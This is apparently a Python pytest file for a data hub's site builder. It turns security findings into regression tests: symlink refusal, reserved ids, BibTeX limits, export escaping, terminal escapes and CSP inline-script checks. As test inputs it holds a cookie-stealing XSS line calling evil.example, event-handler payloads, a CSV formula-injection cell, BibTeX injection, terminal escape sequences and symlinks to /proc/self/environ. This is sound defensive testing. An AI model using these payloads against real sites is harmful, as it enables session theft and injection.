"""Trust, round two: each finding of the second probe, as a test that failed before the fix.

Symbolic links and misplaced files, patterns anchored at the true end, reserved ids, the BibTeX
reader's worst cases, exports escaped for their format, terminal output, the CSP's inline-script
rule, offline zips that are never torn, and build folders left by killed builds.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import bibtexparser
import pytest
from conftest import ROOT, VALID_TOOL, write

from wpshub.data.bibtex import read_bib_text
from wpshub.data.validate import check_hub
from wpshub.site.exports import bibtex_entry, catalogue_csv, csv_cell

TODAY = dt.date(2026, 12, 1)


def copy_hub(hub: Path) -> Path:
    """What a build reads, copied: the hub to change without touching the repository."""
    hub.mkdir()
    for name in ("mkdocs.yml", "data", "docs", "overrides", "hooks", "wpshub"):
        source = ROOT / name
        (shutil.copytree if source.is_dir() else shutil.copy)(source, hub / name)
    return hub


def errors(root: Path, paths: list[Path] | None = None) -> list[str]:
    return [str(p) for p in check_hub(root, paths, today=TODAY).errors]


# --- symbolic links and files out of their place ------------------------------------------------


def test_a_symlinked_record_is_refused_not_read(scratch_hub: Path, tmp_path: Path) -> None:
    outside = write(tmp_path / "outside" / "x.yaml", VALID_TOOL.replace("example-tool", "x"))
    (scratch_hub / "data" / "tools").mkdir(parents=True, exist_ok=True)
    (scratch_hub / "data" / "tools" / "x.yaml").symlink_to(outside)
    report = check_hub(scratch_hub, today=TODAY)
    assert [r.id for r in report.records] == []
    assert [str(p) for p in report.errors] == [
        "data/tools/x.yaml:1: file: is a symbolic link; the hub follows none (a link can publish "
        "a file from outside the repository): replace it with the file itself"
    ]


def test_a_symlinked_page_or_bibtex_file_is_refused(scratch_hub: Path) -> None:
    (scratch_hub / "docs").mkdir(exist_ok=True)
    (scratch_hub / "docs" / "env.txt").symlink_to("/proc/self/environ")
    (scratch_hub / "data" / "research").mkdir(parents=True, exist_ok=True)
    (scratch_hub / "data" / "research" / "x.bib").symlink_to("/etc/hostname")
    assert [e.split(": ")[0] for e in errors(scratch_hub)] == [
        "data/research/x.bib:1",
        "docs/env.txt:1",
    ]


@pytest.mark.parametrize(
    ("relative", "message"),
    [
        (
            "data/tool/x.yaml",
            "'tool' is not a collection, so this file would never be built; did you mean "
            "data/tools/? (collections: centres, networks, organisations, tools, practices, "
            "plans, datasets, resolutions, pathways, research)",
        ),
        (
            "data/tools/sub/x.yaml",
            "records live directly in data/tools/, not in a sub-folder, so this file would never "
            "be built; move it to data/tools/x.yaml",
        ),
        (
            "data/tools/x.YAML",
            "the extension '.YAML' must be written '.yaml', or the file is never built; rename "
            "it to x.yaml",
        ),
        (
            "data/research/more/x.bib",
            "records live directly in data/research/, not in a sub-folder, so this file would "
            "never be built; move it to data/research/x.bib",
        ),
        (
            "data/tools/x.txt",
            "data/tools/ holds only .yaml or .yml records, so this file would never be built; "
            "move or remove it",
        ),
        (
            "data/x.yaml",
            "data/ holds collection folders and the hub's own files only; 'x.yaml' would never "
            "be built: move it into its collection's folder",
        ),
    ],
)
def test_a_record_out_of_its_place_is_reported_never_skipped(
    scratch_hub: Path, relative: str, message: str
) -> None:
    write(scratch_hub / relative, VALID_TOOL.replace("example-tool", "x"))
    assert errors(scratch_hub) == [f"{relative}:1: file: {message}"]
    # named on the command line, as the pull request job once did
    assert errors(scratch_hub, [scratch_hub / relative]) == [f"{relative}:1: file: {message}"]


def test_the_build_stops_on_a_symlinked_page(tmp_path: Path) -> None:
    from sitebuild import build_site

    hub = copy_hub(tmp_path / "hub")
    (hub / "docs" / "env.txt").symlink_to("/proc/self/environ")
    result = build_site(tmp_path / "site", {"WPSHUB_LANGUAGES": "en"}, root=hub)
    assert result.returncode != 0
    assert "docs/env.txt:1: file: is a symbolic link" in result.stdout + result.stderr
    assert not (tmp_path / "site" / "env.txt").exists()


# --- patterns, control characters and reserved ids ------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("id: example-tool", 'id: "example-tool\\n"', "id: contains a line break or tab U+000A"),
        ("url: https://example.org/tool", 'url: "https://example.org/tool\\n"', "url:"),
        (
            "title: Example planning tool",
            'title: "Example tool\\n0 errors"',
            "title: contains a line break",
        ),
        ("title: Example planning tool", 'title: "Example \\u0085tool"', "title: contains"),
    ],
)
def test_a_trailing_newline_or_control_character_is_refused(
    scratch_hub: Path, old: str, new: str, message: str
) -> None:
    assert old in VALID_TOOL
    write(scratch_hub / "data" / "tools" / "example-tool.yaml", VALID_TOOL.replace(old, new))
    found = errors(scratch_hub)
    assert any(message in e for e in found), found


def test_a_doi_with_a_trailing_newline_is_refused(scratch_hub: Path) -> None:
    write(
        scratch_hub / "data" / "tools" / "example-tool.yaml",
        VALID_TOOL.replace("year: 2020", 'year: 2020\ndoi: "10.1000/abc\\n"'),
    )
    found = errors(scratch_hub)
    assert (
        "data/tools/example-tool.yaml:7: doi: contains a line break or tab U+000A; delete it"
        in found
    )
    assert any(": doi: " in e and "DOI" in e for e in found), found  # the pattern, too


@pytest.mark.parametrize("name", ["con", "aux", "nul", "com1", "lpt9", "index", "prn"])
def test_reserved_names_are_refused_as_ids(scratch_hub: Path, name: str) -> None:
    write(scratch_hub / "data" / "tools" / f"{name}.yaml", VALID_TOOL.replace("example-tool", name))
    assert errors(scratch_hub) == [
        f"data/tools/{name}.yaml:1: id: '{name}' is a reserved name (Windows cannot check out a "
        "file of that name, and 'index' is taken by the site); choose another"
    ]


# --- the BibTeX reader's worst cases ----------------------------------------------------------------


def test_a_crossref_to_itself_is_reported_not_a_traceback() -> None:
    text = "@book{a1,\n  title = {Self},\n  crossref = {a1},\n  year = {2020},\n}\n"
    assert [str(p) for p in read_bib_text(text, "x.bib").problems] == [
        "x.bib:3: crossref: a1: crossref names the entry itself; a crossref names a parent entry "
        "such as the book of a chapter"
    ]


@pytest.mark.parametrize("name", ["editors_parts", "id", "entry_type", "bibtex_fields", "authors"])
def test_field_names_the_reader_uses_itself_are_reported(scratch_hub: Path, name: str) -> None:
    write(
        scratch_hub / "data" / "research" / "x.bib",
        f"@article{{doe2020x,\n  author = {{Doe, Jane}},\n  title = {{A Title}},\n"
        f"  year = {{2020}},\n  {name} = {{x}},\n  topics = {{naps}},\n  added = {{2026-01-01}},\n"
        "  source = {https://example.org/x},\n}\n",
    )
    assert errors(scratch_hub) == [
        f"data/research/x.bib:5: {name}: doe2020x: '{name}' is a name the hub uses for itself, "
        "so the field is not read; rename or remove it"
    ]


def test_bibtex_type_and_key_fields_are_read_without_taking_the_records_place() -> None:
    from wpshub.data.bibtex import entry_to_record

    text = "@techreport{r1,\n  title = {T},\n  type = {Working Paper},\n  key = {Sort},\n}\n"
    record = entry_to_record(read_bib_text(text, "x.bib").entries[0], "x.bib")
    assert (record.type, record.id, record.get("genre"), record.get("sort_key")) == (
        "research", "r1", "Working Paper", "Sort",
    )  # fmt: skip


def test_deeply_nested_braces_take_linear_time_and_are_capped() -> None:
    depth = 100_000  # a 200 KB title: over 300 s before
    text = "@article{deep,\n title = {" + "{" * depth + "x" + "}" * depth + "},\n}\n"
    started = time.monotonic()
    problems = [str(p) for p in read_bib_text(text, "x.bib").problems]
    assert time.monotonic() - started < 5
    assert problems == [
        "x.bib:2: title: deep: braces nest more than 20 deep; the field is not read"
    ]


# --- exports escaped for their format ----------------------------------------------------------


def hub_with_title(root: Path, title: str) -> object:
    from wpshub.site.catalogue import load_hub

    write(
        root / "data" / "tools" / "example-tool.yaml",
        VALID_TOOL.replace("title: Example planning tool", "title: " + json.dumps(title)),
    )
    return load_hub(root)


def test_a_title_cannot_break_out_of_its_bibtex_entry(scratch_hub: Path) -> None:
    title = "Tool}, @misc{evil, title={Injected}} 50% & C:\\ ~ #1 $x_2^3"
    hub = hub_with_title(scratch_hub, title)
    entry = bibtex_entry(hub.records[0])
    library = bibtexparser.parse_string(entry)
    assert [e.key for e in library.entries] == ["example-tool"]
    assert library.failed_blocks == []
    assert "evil" not in [e.key for e in library.entries]
    fields = {f.key: f.value for f in library.entries[0].fields}
    assert fields["title"].startswith("{Tool\\textbraceright{}, @misc\\textbraceleft{}evil")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝"])
def test_catalogue_csv_neutralises_formula_cells_and_starts_with_a_bom(
    scratch_hub: Path, start: str
) -> None:
    hub = hub_with_title(scratch_hub, f'{start}HYPERLINK("https://evil.example")')
    text = catalogue_csv(hub, True)
    assert text.startswith("\ufeffid,")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0]["title"] == f'\'{start}HYPERLINK("https://evil.example")'
    assert csv_cell("\tx") == "'\tx" and csv_cell("plain") == "plain" and csv_cell(3) == 3


# --- the terminal shows control characters, never obeys them ------------------------------------


def test_validate_prints_escape_sequences_visibly(scratch_hub: Path) -> None:
    hostile = "naps, \x1b]0;pwned\x07\x1b[2K\rchecked 1 records: 0 errors"
    write(
        scratch_hub / "data" / "tools" / "example-tool.yaml",
        VALID_TOOL.replace("topics: [naps, financing]", f"topics: [{hostile!r}]".replace("'", '"')),
    )
    result = subprocess.run(
        [sys.executable, "-m", "wpshub.tools.cli", "--root", str(scratch_hub), "validate"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert result.returncode == 1
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\r" not in result.stdout
    assert "\\x1b]0;pwned\\x07" in result.stdout


def test_wpshub_new_echoes_answers_escaped(scratch_hub: Path) -> None:
    from wpshub.tools.scaffold import NewRecord

    out = io.StringIO()
    flags = {"title": "A title", "topics": "naps,\x1b]52;c;cHduZWQ=\x07"}
    with pytest.raises(Exception):  # noqa: B017 - the message is what matters
        NewRecord(scratch_hub, "tools", flags, None, out, TODAY).make()
    assert "\x1b" not in out.getvalue()


# --- the Content-Security-Policy allows the theme's scripts only --------------------------------


def test_the_themes_own_inline_scripts_pass_and_others_stop(built_site: Path) -> None:
    from wpshub.site.steps import InlineScriptError, check_inline_scripts

    for page in (built_site / "index.html", built_site / "ar" / "explore" / "index.html"):
        check_inline_scripts(page.read_text(encoding="utf-8"), str(page))
    html = (built_site / "about" / "index.html").read_text(encoding="utf-8")
    attack = [
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
        '<img src="x.png" onerror="alert(1)">',
        "<svg><a xlink:href='#' ONCLICK=alert(1)>x</a></svg>",
        '<script>__md_scope=new URL("/",location);alert(1)</script>',
    ]
    for payload in attack:
        with pytest.raises(InlineScriptError):
            check_inline_scripts(html.replace("</article>", payload + "</article>", 1), "about")
    # words that merely look like handlers inside text or attribute values are no handler
    harmless = '<p title="a fee based on=1 then">only=1 onward=2</p>'
    check_inline_scripts(html.replace("</article>", harmless + "</article>", 1), "about")


def test_policy_has_no_unsafe_inline_and_headers_forbid_framing(built_site: Path) -> None:
    head = (built_site / "index.html").read_text(encoding="utf-8").split("</head>")[0]
    policy = head.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
    assert "'unsafe-inline'" not in policy and "style-src 'self';" in policy
    headers = (built_site / "_headers").read_text(encoding="utf-8")
    assert "frame-ancestors 'none'" in headers and "X-Frame-Options: DENY" in headers


def test_the_build_stops_on_an_inline_script_in_a_markdown_page(tmp_path: Path) -> None:
    from sitebuild import build_site

    hub = copy_hub(tmp_path / "hub")
    about = hub / "docs" / "about.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n<script>alert(1)</script>\n", "utf-8")
    result = build_site(tmp_path / "site", {"WPSHUB_LANGUAGES": "en"}, root=hub)
    assert result.returncode != 0
    assert "docs/about.md: an inline script that is not the theme's own ('alert(1)')" in (
        result.stdout + result.stderr
    )


# --- offline zips are never torn ----------------------------------------------------------------


def test_a_truncated_zip_stops_the_build_instead_of_being_published(tmp_path: Path) -> None:
    from wpshub.site.offline import OfflineZipError, find_offline_zip, zip_name

    good = tmp_path / zip_name(dt.date(2026, 11, 30))
    with zipfile.ZipFile(good, "w") as archive:
        archive.writestr("index.html", "<p>hub</p>" * 1000)
    torn = tmp_path / zip_name(dt.date(2026, 12, 1))
    torn.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    with pytest.raises(OfflineZipError, match="not a complete zip"):
        find_offline_zip(tmp_path)
    torn.unlink()
    assert find_offline_zip(tmp_path).name == good.name


def test_a_failed_zip_write_leaves_the_old_zip_and_no_partial_file(tmp_path: Path) -> None:
    from wpshub.site.offline import write_zip_atomically

    target = tmp_path / "hub.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("old.txt", "old")

    def dies_half_way(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("new.txt", "new")
            raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        write_zip_atomically(target, dies_half_way)
    assert zipfile.ZipFile(target).namelist() == ["old.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hub.zip"]


def test_a_second_offline_run_stops_while_the_first_holds_dist(tmp_path: Path) -> None:
    from wpshub.site.offline import OfflineZipError, build_offline, dist_lock

    with dist_lock(tmp_path), pytest.raises(OfflineZipError, match="another `wpshub offline`"):
        build_offline(ROOT, tmp_path)
    with dist_lock(tmp_path):  # released: the next run takes it
        pass


def test_folders_of_killed_builds_are_removed_and_ignored(tmp_path: Path) -> None:
    from wpshub.site.build import remove_stale_build_folders

    site = tmp_path / "site"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    stale = [tmp_path / f".site.building-{dead}", tmp_path / f".site.old-{dead}"]
    running = tmp_path / f".site.building-{os.getppid()}"
    for folder in (*stale, running):
        folder.mkdir()
    assert sorted(remove_stale_build_folders(site)) == sorted(stale)
    assert [p.name for p in tmp_path.iterdir()] == [running.name]
    for left in (f".site.building-{dead}/x", ".site.old-1/x", "dist/.offline.lock"):
        assert subprocess.run(["git", "check-ignore", "-q", left], cwd=ROOT).returncode == 0
